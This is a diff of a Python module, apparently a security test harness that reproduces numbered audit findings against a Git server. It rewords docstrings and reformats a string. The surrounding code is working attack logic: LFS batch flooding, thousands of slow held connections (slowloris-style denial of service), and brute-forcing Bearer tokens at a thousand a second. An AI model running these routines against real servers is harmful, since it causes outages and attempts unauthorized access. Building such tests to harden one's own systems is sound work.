@@ -8,7 +8,7 @@ from attacks import stage, wire
 
 
 def lfs_batches(attack):
-    """Finding 4: batches of a thousand objects, with a header that is told back for each; answers not read."""
+    """Finding 4: batches of a thousand objects. The answers, never read, repeat a header for each."""
     request, asked = lfs_request(), []
     while attack.goes_on() and len(asked) < 250:
         with attack.tolerant():
@@ -114,7 +114,7 @@ def begun_bodies(attack):
 
 
 def held_connections(attack):
-    """Finding 15: from eight addresses as many conversations of v0 as they get, and a byte of each in a while."""
+    """Finding 15: eight addresses hold up to 3,000 conversations of v0, and send each a byte every 5 s."""
     line = wire.pkt(f"want {attack.given['tip']} multi_ack_detailed\n")
     held, at = [], 0
     while attack.goes_on():
@@ -175,7 +175,10 @@ def slow_heads(attack):
 def wrong_tokens(attack):
     """A thousand wrong tokens a second."""
     numbers, s = itertools.count(), None
-    line = "GET /hidden/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\n\r\n"
+    line = (
+        "GET /hidden/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\n"
+        "Authorization: Bearer {}\r\n\r\n"
+    )
     while attack.goes_on():
         with attack.tolerant():
             s = s or wire.connect(attack.address(), attack.http_port)
